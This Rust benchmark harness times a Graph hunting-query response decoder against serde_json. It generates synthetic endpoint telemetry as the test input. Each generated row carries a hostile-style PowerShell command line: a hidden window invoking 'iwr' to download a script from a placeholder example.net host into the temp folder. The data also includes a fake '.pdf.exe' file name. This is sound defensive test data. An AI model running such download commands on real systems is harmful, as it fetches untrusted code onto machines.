//! Throughput and peak memory of the Graph response decoder (a plain harness:
//! `cargo bench --bench decode`, optionally `-- RUNS` (default 5), and `-- RUNS decode-only` to
//! time only `decode_results`, e.g. under a profiler).
//!
//! What it measures: a deterministic `runHuntingQuery` body of 100,000 rows × 20 columns (about
//! 110 MB: strings of hunting content with escapes and non-ASCII text, 7-digit datetimes, Int64
//! values beyond 2^53 and i64::MIN, Int32, Boolean, Double, Guid, Object columns holding objects
//! and lists, one Object column holding JSON in a string, some nulls and missing keys) is decoded
//! (a) by `hunt::graph::decode::decode_results` into one Arrow batch, (b) by
//! `serde_json::from_slice::<serde_json::Value>` over the same bytes, and, as the floor of any
//! serde_json-based decoder, (c) by `serde_json::from_slice::<IgnoredAny>` (parse and skip). For
//! each it prints the median wall time of RUNS runs, MB/s (MB = 10^6 bytes of body), the peak heap
//! seen by a counting global allocator above the baseline (which already holds the body) and in
//! total, both also relative to the body size, and the heap the result still holds afterwards.
//! A growing `realloc` is counted as if the old and the new block were live at once (the worst
//! case, when it moves), for every decoder. Dropping a result is not timed. Before timing, the
//! decoded result is checked (rows, columns, types, a few cells, no warnings), so a broken
//! decoder fails loudly.

use std::alloc::{GlobalAlloc, Layout, System};
use std::io::Write as _;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use hunt::graph::decode::decode_results;
use hunt::kql::time;
use hunt::results::KqlType;

/// `System`, counting the bytes in use and the peak since the last reset.
struct Counting;

static CURRENT: AtomicUsize = AtomicUsize::new(0);
static PEAK: AtomicUsize = AtomicUsize::new(0);

fn raise_peak(candidate: usize) {
    PEAK.fetch_max(candidate, Ordering::Relaxed);
}

// SAFETY: every call is passed to `System` unchanged; the counters only observe sizes.
unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        // SAFETY: the caller's contract for `alloc` is passed on as it is.
        let ptr = unsafe { System.alloc(layout) };
        if !ptr.is_null() {
            raise_peak(CURRENT.fetch_add(layout.size(), Ordering::Relaxed) + layout.size());
        }
        ptr
    }

    unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
        // SAFETY: as for `alloc`.
        let ptr = unsafe { System.alloc_zeroed(layout) };
        if !ptr.is_null() {
            raise_peak(CURRENT.fetch_add(layout.size(), Ordering::Relaxed) + layout.size());
        }
        ptr
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        // SAFETY: as for `alloc`.
        unsafe { System.dealloc(ptr, layout) };
        CURRENT.fetch_sub(layout.size(), Ordering::Relaxed);
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        // SAFETY: as for `alloc`.
        let new = unsafe { System.realloc(ptr, layout, new_size) };
        if !new.is_null() {
            let old = layout.size();
            if new_size > old {
                // Old and new block both live while a moving realloc copies.
                let before = CURRENT.fetch_add(new_size - old, Ordering::Relaxed);
                raise_peak(before + new_size);
            } else {
                CURRENT.fetch_sub(old - new_size, Ordering::Relaxed);
            }
        }
        new
    }
}

#[global_allocator]
static ALLOCATOR: Counting = Counting;

const ROWS: usize = 100_000;

/// The schema: (name, Graph type).
const COLUMNS: [(&str, &str); 20] = [
    ("Timestamp", "DateTime"),
    ("DeviceId", "String"),
    ("DeviceName", "String"),
    ("ActionType", "String"),
    ("FileName", "String"),
    ("FolderPath", "String"),
    ("ProcessCommandLine", "String"),
    ("AccountName", "String"),
    ("SHA256", "String"),
    ("ProcessId", "Int64"),
    ("ReportId", "Int64"),
    ("RemotePort", "Int32"),
    ("IsElevated", "Boolean"),
    ("RiskScore", "Double"),
    ("CorrelationId", "Guid"),
    ("ProcessCreationTime", "DateTime"),
    ("InitiatingProcessCreationTime", "DateTime"),
    ("AdditionalFields", "Object"),
    ("Tags", "Object"),
    ("RawEventData", "Object"),
];

/// A small deterministic generator (xorshift64*).
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len() as u64) as usize]
    }

    fn hex(&mut self, digits: usize) -> String {
        (0..digits)
            .map(|_| char::from(b"0123456789abcdef"[self.below(16) as usize]))
            .collect()
    }
}

const ACTIONS: [&str; 6] = [
    "ProcessCreated",
    "ConnectionSuccess",
    "FileCreated",
    "RegistryValueSet",
    "LogonSuccess",
    "PowerShellCommand",
];
const FILES: [&str; 8] = [
    "powershell.exe",
    "cmd.exe",
    "rundll32.exe",
    "svchost.exe",
    "Überweisung_März.pdf.exe",
    "отчёт.docx",
    "请求.xlsm",
    "mshta.exe",
];
const USERS: [&str; 5] = ["alice", "bob", "svc-backup", "józef.nowak", "SYSTEM"];
const FOLDERS: [&str; 4] = [
    "C:\\Windows\\System32",
    "C:\\Users\\Public\\Downloads",
    "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform",
    "C:\\Users\\józef.nowak\\AppData\\Local\\Temp",
];

/// The ticks of row `row`'s Timestamp (7 significant fraction digits).
fn timestamp_ticks(row: usize) -> i64 {
    time::parse_datetime("2024-03-26T00:00:00Z").expect("a datetime") + row as i64 * 8_640_012_345
}

/// The ProcessId of row `row`: beyond 2^53 on every seventh row, i64::MIN on row 3.
fn process_id(row: usize) -> i64 {
    match row {
        3 => i64::MIN,
        _ if row.is_multiple_of(7) => 9_007_199_254_740_993 + row as i64,
        _ => 1000 + (row as i64 * 37) % 60_000,
    }
}

fn json_string(out: &mut Vec<u8>, text: &str) {
    serde_json::to_writer(&mut *out, text).expect("a string");
}

/// Writes one row object (keys in schema order; a few nulls and missing keys).
fn write_row(out: &mut Vec<u8>, row: usize, rng: &mut Rng) {
    let key = |out: &mut Vec<u8>, name: &str, first: bool| {
        if !first {
            out.push(b',');
        }
        out.push(b'"');
        out.extend_from_slice(name.as_bytes());
        out.extend_from_slice(b"\":");
    };
    let created = timestamp_ticks(row) - 1_234_567 - rng.below(10_000_000_000) as i64;
    let file = rng.pick(&FILES);
    let folder = rng.pick(&FOLDERS);
    let user = rng.pick(&USERS);
    out.push(b'{');
    key(out, "Timestamp", true);
    json_string(out, &time::format_datetime(timestamp_ticks(row)));
    key(out, "DeviceId", false);
    json_string(out, &rng.hex(40));
    key(out, "DeviceName", false);
    if row.is_multiple_of(97) {
        out.extend_from_slice(b"null");
    } else {
        json_string(out, &format!("ws-{:04}.contoso.example", rng.below(5000)));
    }
    key(out, "ActionType", false);
    json_string(out, rng.pick(&ACTIONS));
    key(out, "FileName", false);
    json_string(out, file);
    key(out, "FolderPath", false);
    json_string(out, &format!("{folder}\\{file}"));
    key(out, "ProcessCommandLine", false);
    let command = format!(
        "\"{folder}\\{file}\" -nop -w hidden -c \"iwr https://cdn-{}.example.net/{} \
         -OutFile $env:TEMP\\{}.ps1\"",
        rng.below(100),
        rng.hex(8),
        rng.hex(6)
    );
    json_string(out, &command);
    key(out, "AccountName", false);
    json_string(out, user);
    key(out, "SHA256", false);
    json_string(out, &rng.hex(64));
    key(out, "ProcessId", false);
    let _ = write!(out, "{}", process_id(row));
    key(out, "ReportId", false);
    let _ = write!(out, "{}", rng.below(1 << 40));
    key(out, "RemotePort", false);
    let _ = write!(out, "{}", rng.below(65536));
    key(out, "IsElevated", false);
    out.extend_from_slice(if rng.below(2) == 0 { b"true" } else { b"false" });
    if !row.is_multiple_of(50) {
        // Missing on every 50th row.
        key(out, "RiskScore", false);
        let _ = write!(out, "{}", rng.below(1_000_000) as f64 / 1000.0);
    }
    key(out, "CorrelationId", false);
    json_string(
        out,
        &format!(
            "{}-{}-{}-{}-{}",
            rng.hex(8),
            rng.hex(4),
            rng.hex(4),
            rng.hex(4),
            rng.hex(12)
        ),
    );
    key(out, "ProcessCreationTime", false);
    json_string(out, &time::format_datetime(created));
    key(out, "InitiatingProcessCreationTime", false);
    json_string(out, &time::format_datetime(created - 98_765_432));
    key(out, "AdditionalFields", false);
    let _ = write!(
        out,
        "{{\"Command\":\"Get-Item\",\"Count\":{},\"Flags\":[\"signed\",\"{}\"],\
         \"Nested\":{{\"Ratio\":{},\"Note\":null}}}}",
        rng.below(1000),
        rng.pick(&["elevated", "remote session", "script host"]),
        rng.below(100) as f64 / 8.0
    );
    key(out, "Tags", false);
    let _ = write!(
        out,
        "[\"T1059.001\",\"T1105\",{}]",
        if row.is_multiple_of(3) {
            "\"Lateral\""
        } else {
            "null"
        }
    );
    key(out, "RawEventData", false);
    if row.is_multiple_of(11) {
        out.extend_from_slice(b"null");
    } else {
        let raw = format!(
            "{{\"EventId\":4688,\"Channel\":\"Security\",\"Data\":{{\"NewProcessName\":\"{}\"}}}}",
            format!("{folder}\\{file}").replace('\\', "\\\\"),
        );
        json_string(out, &raw);
    }
    out.push(b'}');
}

/// The whole body, schema first as Graph sends it.
fn generate() -> Vec<u8> {
    let mut out = Vec::with_capacity(110_000_000);
    out.extend_from_slice(
        b"{\"@odata.context\":\"https://graph.microsoft.com/v1.0/$metadata#microsoft.graph.\
          security.huntingQueryResults\",\"schema\":[",
    );
    for (i, (name, type_name)) in COLUMNS.iter().enumerate() {
        if i > 0 {
            out.push(b',');
        }
        let _ = write!(out, "{{\"name\":\"{name}\",\"type\":\"{type_name}\"}}");
    }
    out.extend_from_slice(b"],\"results\":[");
    let mut rng = Rng(0x4855_4E54_4752_4150);
    for row in 0..ROWS {
        if row > 0 {
            out.push(b',');
        }
        write_row(&mut out, row, &mut rng);
    }
    out.extend_from_slice(b"]}");
    out.shrink_to_fit();
    out
}

/// Fails loudly when the decoder is wrong.
fn check(body: &[u8]) {
    let result = decode_results(body, "bench").expect("the body decodes");
    assert_eq!(result.row_count(), ROWS, "rows");
    let names: Vec<String> = COLUMNS.iter().map(|(n, _)| n.to_string()).collect();
    assert_eq!(result.column_names(), names, "columns in schema order");
    let types = [
        KqlType::DateTime,
        KqlType::String,
        KqlType::String,
        KqlType::String,
        KqlType::String,
        KqlType::String,
        KqlType::String,
        KqlType::String,
        KqlType::String,
        KqlType::Long,
        KqlType::Long,
        KqlType::Int,
        KqlType::Bool,
        KqlType::Real,
        KqlType::Guid,
        KqlType::DateTime,
        KqlType::DateTime,
        KqlType::Dynamic,
        KqlType::Dynamic,
        KqlType::Dynamic,
    ];
    assert_eq!(result.column_types(), &types, "column types");
    assert!(
        result.facts.warnings.is_empty(),
        "{:?}",
        result.facts.warnings
    );
    assert!(result.facts.truncated, "100,000 rows is Graph's cap");
    for row in [0, 3, 7, 97, 99_999] {
        assert_eq!(
            result.cell_text(row, 0),
            Some(time::format_datetime(timestamp_ticks(row))),
            "Timestamp of row {row}"
        );
        assert_eq!(
            result.cell_text(row, 9),
            Some(process_id(row).to_string()),
            "ProcessId of row {row}"
        );
    }
    assert_eq!(result.cell_text(97, 2), None, "DeviceName null on row 97");
    assert_eq!(
        result.cell_text(50, 13),
        None,
        "RiskScore missing on row 50"
    );
    assert_eq!(
        result.cell_text(11, 19),
        None,
        "RawEventData null on row 11"
    );
    let raw = result.cell_text(1, 19).expect("RawEventData on row 1");
    assert!(
        raw.starts_with("{\"EventId\":4688,\"Channel\":\"Security\""),
        "JSON held in a string is stored as the JSON: {raw}"
    );
    assert_eq!(
        result.cell_text(3, 18).as_deref(),
        Some("[\"T1059.001\",\"T1105\",\"Lateral\"]")
    );
}

struct Sample {
    time: Duration,
    /// Heap the decoded value holds once the decode is done.
    held: usize,
    /// Peak above the heap in use when the decode started (the body included there).
    above: usize,
    /// Peak heap in total.
    total: usize,
}

/// Runs `decode` `runs` times; the result is dropped outside the timing.
fn measure<T>(runs: usize, mut decode: impl FnMut() -> T) -> Vec<Sample> {
    (0..runs)
        .map(|_| {
            let baseline = CURRENT.load(Ordering::Relaxed);
            PEAK.store(baseline, Ordering::Relaxed);
            let started = Instant::now();
            let value = decode();
            let time = started.elapsed();
            let total = PEAK.load(Ordering::Relaxed);
            let held = CURRENT.load(Ordering::Relaxed).saturating_sub(baseline);
            drop(value);
            Sample {
                time,
                held,
                above: total - baseline,
                total,
            }
        })
        .collect()
}

fn median<T: Copy + Ord>(mut values: Vec<T>) -> T {
    values.sort();
    values[values.len() / 2]
}

fn main() {
    let runs: usize = std::env::args()
        .skip(1)
        .find_map(|a| a.parse().ok())
        .unwrap_or(5)
        .max(1);
    let body = generate();
    let size = body.len();
    check(&body);

    let decoded = measure(runs, || decode_results(&body, "bench").expect("decodes"));
    if std::env::args().any(|a| a == "decode-only") {
        let time = median(decoded.iter().map(|s| s.time).collect());
        println!(
            "decode_results: median {:.1} ms",
            time.as_secs_f64() * 1000.0
        );
        return;
    }
    let values = measure(runs, || {
        serde_json::from_slice::<serde_json::Value>(&body).expect("parses")
    });
    // The floor for any serde_json-based decoder: validating and skipping, no output.
    let skipped = measure(runs, || {
        serde_json::from_slice::<serde::de::IgnoredAny>(&body).expect("parses")
    });

    let mb = size as f64 / 1e6;
    println!(
        "body: {size} bytes ({mb:.1} MB), {ROWS} rows × {} columns; median of {runs} runs",
        COLUMNS.len()
    );
    println!(
        "{:<38} {:>9} {:>7} {:>13} {:>7} {:>13} {:>7} {:>12}",
        "decoder", "median", "MB/s", "peak above", "× body", "peak total", "× body", "result held"
    );
    let mut speeds = Vec::new();
    for (name, samples) in [
        ("decode_results (Arrow)", decoded),
        ("serde_json::from_slice::<Value>", values),
        ("serde_json::from_slice::<IgnoredAny>", skipped),
    ] {
        let time = median(samples.iter().map(|s| s.time).collect());
        let above = median(samples.iter().map(|s| s.above).collect());
        let total = median(samples.iter().map(|s| s.total).collect());
        let held = median(samples.iter().map(|s| s.held).collect());
        let speed = mb / time.as_secs_f64();
        speeds.push(speed);
        println!(
            "{:<38} {:>6.1} ms {:>7.0} {:>10.1} MB {:>6.2}× {:>10.1} MB {:>6.2}× {:>9.1} MB",
            name,
            time.as_secs_f64() * 1000.0,
            speed,
            above as f64 / 1e6,
            above as f64 / size as f64,
            total as f64 / 1e6,
            total as f64 / size as f64,
            held as f64 / 1e6
        );
    }
    println!(
        "throughput ratio decode_results / Value: {:.2}×",
        speeds[0] / speeds[1]
    );
}
